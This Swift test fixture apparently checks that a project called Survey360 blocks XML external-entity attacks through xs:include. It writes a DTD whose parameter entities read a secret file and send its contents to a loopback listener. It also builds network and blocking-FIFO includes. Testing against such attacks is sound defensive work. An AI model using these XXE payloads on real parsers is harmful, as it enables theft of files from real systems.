import Foundation

#if canImport(Glibc)
    import Glibc
#endif

/// The files of an attack through `xs:include`, in a folder of their own
/// outside whatever Survey360 is reading, and the listener that would
/// receive the stolen content.
///
/// The included schema's internal subset reads `steal.dtd` as an external
/// parameter entity; that DTD reads `secret.txt` and declares an entity
/// whose system id is `http://127.0.0.1:PORT/?SECRET`, which libxml2 fetches
/// as soon as it is referenced: the out-of-band XXE of issue #10.
public final class SchemaIncludeAttack {
    /// The content an attacker wants: one line, so that it fits in a URL.
    public static let secret = "survey360-secret-4f1c"

    public let folder: URL
    public let listener: LoopbackListener

    public init() throws {
        folder = FileManager.default.temporaryDirectory.appending(path: "survey360-outside-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        listener = try LoopbackListener()
        try Data(Self.secret.utf8).write(to: folder.appending(path: "secret.txt"))
        let dtd = """
            <!ENTITY % secret SYSTEM "\(fileURL("secret.txt"))">
            <!ENTITY % send "<!ENTITY &#x25; exfiltrate SYSTEM 'http://127.0.0.1:\(listener.port)/?%secret;'>">
            %send;
            %exfiltrate;
            """
        try Data(dtd.utf8).write(to: folder.appending(path: "steal.dtd"))
        let included = """
            <?xml version="1.0"?>
            <!DOCTYPE xs:schema [
              <!ENTITY % steal SYSTEM "\(fileURL("steal.dtd"))">
              %steal;
            ]>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"/>
            """
        try Data(included.utf8).write(to: folder.appending(path: "included.xsd"))
        guard mkfifo(folder.appending(path: "fifo.xsd").path, 0o600) == 0 else { throw POSIXError(.EIO) }
    }

    deinit {
        listener.stop()
        try? FileManager.default.removeItem(at: folder)
    }

    /// An include of the local schema that exfiltrates `secret.txt`.
    public var localInclude: String { include(fileURL("included.xsd")) }
    /// An include of an address on the listener.
    public var networkInclude: String { include("http://127.0.0.1:\(listener.port)/included.xsd") }
    /// An include of a FIFO that nobody writes to: reading it blocks.
    public var fifoInclude: String { include(fileURL("fifo.xsd")) }

    /// What reached the listener: empty when the attack was stopped.
    public var requests: [String] { listener.requests }

    /// `schema` with `include` as the first child of its root element.
    public static func inserting(_ include: String, into schema: String) -> String {
        guard let root = schema.range(of: "<xs:schema"),
            let end = schema[root.upperBound...].range(of: ">")
        else { return schema }
        return schema.replacingCharacters(in: end, with: ">\n  \(include)")
    }

    private func include(_ location: String) -> String {
        "<xs:include schemaLocation=\"\(location)\"/>"
    }

    private func fileURL(_ name: String) -> String {
        "file://\(folder.appending(path: name).path)"
    }
}
